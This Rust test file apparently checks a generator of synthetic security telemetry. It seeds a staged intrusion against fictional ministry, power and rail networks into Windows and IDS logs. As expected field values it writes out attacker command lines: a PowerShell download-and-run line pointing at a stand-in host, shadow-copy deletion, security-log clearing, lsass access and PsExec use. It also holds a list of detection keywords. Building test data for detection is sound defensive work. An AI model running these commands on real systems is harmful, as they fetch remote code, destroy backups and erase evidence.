//! The telemetry: the same for a seed, whole, and with the attack in it.

use std::collections::BTreeMap;

use serde_json::Value;

use super::*;

/// 2026-10-03T01:00:00Z, and a bit that no format can show whole.
const START_US: TimeMicros = 1_790_989_200_000_123;

fn stream(seed: u64, records: u64) -> Vec<Generated> {
    Telemetry::new(seed, START_US, records).collect()
}

fn parsed(record: &Generated) -> Value {
    serde_json::from_slice(&record.value).unwrap_or_else(|error| {
        panic!("{error} in a record of {}: {}", record.source, String::from_utf8_lossy(&record.value))
    })
}

fn text<'a>(event: &'a Value, key: &str) -> &'a str {
    event.get(key).and_then(Value::as_str).unwrap_or_default()
}

#[test]
fn a_seed_determines_every_byte() {
    let bytes =
        |seed| stream(seed, 3_000).into_iter().map(|r| (r.source, r.time_us, r.value)).collect::<Vec<_>>();
    assert_eq!(bytes(7), bytes(7));
    assert_ne!(bytes(7), bytes(8));
}

#[test]
fn every_length_is_exact() {
    for records in [0, 1, 17, 499, 500, 4_001] {
        let stream = Telemetry::new(1, START_US, records);
        assert_eq!(stream.size_hint(), (records as usize, Some(records as usize)));
        assert_eq!(stream.count() as u64, records);
    }
}

#[test]
fn the_attack_comes_whole_in_order_and_in_the_middle() {
    for records in [RECORDS_WITH_ATTACK_MIN, 2_777, 30_000] {
        let stream = stream(3, records);
        let steps: Vec<_> =
            stream.iter().enumerate().filter_map(|(at, r)| Some((at as u64, r.step?, r))).collect();
        let titles: Vec<_> = steps.iter().map(|(_, step, _)| step.title).collect();
        assert_eq!(titles, ATTACK.iter().map(|step| step.title).collect::<Vec<_>>(), "{records} records");
        for (at, step, record) in steps {
            assert!((records / 5..records * 4 / 5).contains(&at), "step {} at {at} of {records}", step.title);
            let source = SOURCES.iter().find(|source| source.0 == record.source);
            assert_eq!(source.map(|source| source.1), Some(step.org), "{}", step.title);
            assert!(!record.damaged);
        }
    }
    assert!(stream(3, RECORDS_WITH_ATTACK_MIN - 1).iter().all(|record| record.step.is_none()));
}

#[test]
fn the_attack_has_the_facts_that_rules_look_for() {
    // Step by step: a field (or a pointer into nested ones) and its value.
    let facts: &[&[(&str, &str)]] = &[
        &[
            ("/Hostname", "MIN-WS-014.ministry.example"),
            ("/User", "MINISTRY\\k.tanaka"),
            ("/ParentImage", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
            ("/Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
        ],
        &[("/QueryName", "updates.cdn-sync.example")],
        &[("/DestinationIp", "203.0.113.77"), ("/DestinationPort", "443")],
        &[("/TargetFilename", "C:\\Users\\k.tanaka\\AppData\\Roaming\\svchosts.exe")],
        &[
            (
                "/TargetObject",
                "HKU\\S-1-5-21-1417003982-2264801177-3105520846-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\SyncAgent",
            ),
            ("/Details", "C:\\Users\\k.tanaka\\AppData\\Roaming\\svchosts.exe"),
        ],
        &[("/TargetImage", "C:\\Windows\\System32\\lsass.exe"), ("/GrantedAccess", "0x1410")],
        &[
            ("/Hostname", "PWR-HIST-02.power.example"),
            ("/LogonType", "10"),
            ("/IpAddress", "203.0.113.77"),
            ("/TargetDomainName", "POWER"),
            ("/TargetUserName", "svc_backup"),
        ],
        &[("/ParentImage", "C:\\Windows\\PSEXESVC.exe"), ("/CommandLine", "cmd.exe /c whoami /all")],
        &[("/Channel", "System"), ("/SourceName", "Service Control Manager"), ("/ServiceName", "PSEXESVC")],
        &[("/alert/signature", "NOROSHI Modbus write from office network"), ("/dest_ip", "10.99.1.20")],
        &[("/src_ip", "10.20.0.14"), ("/dest_ip", "203.0.113.77"), ("/event_type", "flow")],
        &[("/dns/rrname", "updates.cdn-sync.example"), ("/src_ip", "10.20.0.14")],
        &[
            ("/Channel", "Microsoft-Windows-PowerShell/Operational"),
            ("/ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a')"),
        ],
        &[("/CommandLine", "vssadmin.exe delete shadows /all /quiet")],
        &[("/CommandLine", "wevtutil.exe cl Security"), ("/Hostname", "RAIL-DSP-07.rail.example")],
        &[("/Channel", "Security")],
        &[("/dns/rrname", "updates.cdn-sync.example"), ("/src_ip", "10.30.1.7")],
        &[("/src_ip", "10.30.1.7"), ("/dest_ip", "203.0.113.77"), ("/event_type", "flow")],
    ];
    let numbers: &[(usize, &str, i64)] = &[
        (0, "/EventID", 1),
        (1, "/EventID", 22),
        (2, "/EventID", 3),
        (3, "/EventID", 11),
        (4, "/EventID", 13),
        (5, "/EventID", 10),
        (6, "/EventID", 4_624),
        (7, "/EventID", 1),
        (8, "/EventID", 7_045),
        (9, "/alert/signature_id", 1_117_701),
        (9, "/alert/severity", 1),
        (9, "/dest_port", 502),
        (10, "/dest_port", 443),
        (12, "/EventID", 4_104),
        (15, "/EventID", 1_102),
    ];
    let events: Vec<Value> =
        stream(11, 1_000).iter().filter(|record| record.step.is_some()).map(parsed).collect();
    assert_eq!(events.len(), facts.len());
    for ((step, event), facts) in ATTACK.iter().zip(&events).zip(facts) {
        for (pointer, value) in *facts {
            assert_eq!(event.pointer(pointer).and_then(Value::as_str), Some(*value), "{}", step.title);
        }
    }
    for (at, pointer, number) in numbers {
        let found = events[*at].pointer(pointer).and_then(Value::as_i64);
        assert_eq!(found, Some(*number), "{pointer} of {}", ATTACK[*at].title);
    }
    assert!(
        text(&events[0], "CommandLine")
            .starts_with("powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgA")
    );
}

#[test]
fn what_is_not_damaged_parses_and_says_its_own_time() {
    let mut before = START_US;
    for record in stream(5, 20_000) {
        assert!(record.time_us >= before, "time went back to {}", record.time_us);
        before = record.time_us;
        if record.damaged {
            assert!(serde_json::from_slice::<Value>(&record.value).is_err());
            continue;
        }
        let event = parsed(&record);
        use crate::demo::clock::{Form, Stamp};
        let at = |form| Stamp { us: record.time_us, form }.to_string();
        if record.source.ends_with("-ids") {
            assert_eq!(text(&event, "timestamp"), at(Form::Eve));
        } else if text(&event, "SourceName") == "Microsoft-Windows-Sysmon" {
            assert_eq!(text(&event, "UtcTime"), at(Form::Sysmon));
        } else {
            assert_eq!(text(&event, "@timestamp"), at(Form::Rfc3339));
        }
    }
    assert!(before < START_US + SPAN_US as i64 + 1_000, "the stream is longer than its hour");
}

#[test]
fn one_record_in_two_thousand_is_damaged_in_each_way() {
    let damaged: Vec<_> = stream(9, 40_000).into_iter().filter(|record| record.damaged).collect();
    assert_eq!(damaged.len() as u64, 40_000 / DAMAGED_EVERY);
    let mut ways = BTreeMap::new();
    for record in &damaged {
        let way = match std::str::from_utf8(&record.value) {
            Ok("") => "empty",
            Ok(_) => "cut off",
            Err(_) => "not UTF-8",
        };
        *ways.entry(way).or_insert(0) += 1;
    }
    assert_eq!(ways, BTreeMap::from([("empty", 6), ("cut off", 7), ("not UTF-8", 7)]));
}

#[test]
fn ordinary_records_do_not_look_like_the_attack() {
    // Lower case; none may occur in any ordinary record.
    const MARKS: &[&str] = &[
        "203.0.113.",
        "cdn-sync",
        "-enc",
        "downloadstring",
        "iex",
        "vssadmin",
        "wevtutil",
        "psexe",
        "lsass",
        "currentversion\\\\run",
        "svchosts",
        "whoami",
        "\"eventid\":1102",
        "\"eventid\":7045",
    ];
    for record in stream(13, 30_000).iter().filter(|record| record.step.is_none() && !record.damaged) {
        let lower = String::from_utf8_lossy(&record.value).to_lowercase();
        let mark = MARKS.iter().find(|mark| lower.contains(**mark));
        assert_eq!(mark, None, "an ordinary record of {}: {lower}", record.source);
        let event = parsed(record);
        assert!(!["0x1410", "0x1010"].contains(&text(&event, "GrantedAccess")));
        let outside = |key| {
            let address = text(&event, key);
            !(address.is_empty() || address.starts_with("10.") || address.starts_with("127."))
        };
        assert!(!outside("IpAddress"), "a logon from outside: {lower}");
        let browser = text(&event, "Image").ends_with("msedge.exe")
            || text(&event, "Image").ends_with("archive-agent.exe");
        assert!(browser || !outside("DestinationIp"), "an odd program goes outside: {lower}");
    }
}

#[test]
fn the_mix_is_as_varied_as_promised_and_mistakes_stay_few() {
    let mut kinds: BTreeMap<String, u64> = BTreeMap::new();
    let mut lines = std::collections::BTreeSet::new();
    for record in stream(17, 60_000).iter().filter(|record| record.step.is_none() && !record.damaged) {
        let event = parsed(record);
        let kind = match event.get("EventID") {
            Some(id) => format!("windows {id}"),
            None => format!("ids {}", text(&event, "event_type")),
        };
        *kinds.entry(kind).or_default() += 1;
        lines.insert(text(&event, "CommandLine").to_owned());
        if text(&event, "app_proto") == "modbus" {
            assert_eq!(record.source, "power-ids");
            assert!(
                text(&event, "src_ip").starts_with("10.99.1.")
                    && text(&event, "dest_ip").starts_with("10.99.1.")
            );
        }
    }
    let expected = [
        "ids alert",
        "ids dns",
        "ids flow",
        "ids http",
        "ids tls",
        "windows 1",
        "windows 10",
        "windows 11",
        "windows 13",
        "windows 22",
        "windows 3",
        "windows 4104",
        "windows 4624",
        "windows 4625",
        "windows 4634",
        "windows 4672",
        "windows 5",
        "windows 7",
    ];
    assert_eq!(kinds.keys().map(String::as_str).collect::<Vec<_>>(), expected);
    assert!(kinds["windows 4625"] <= MISTYPED_MAX + 1, "{kinds:?}");
    assert!(lines.len() > 3_000, "only {} command lines", lines.len());
}
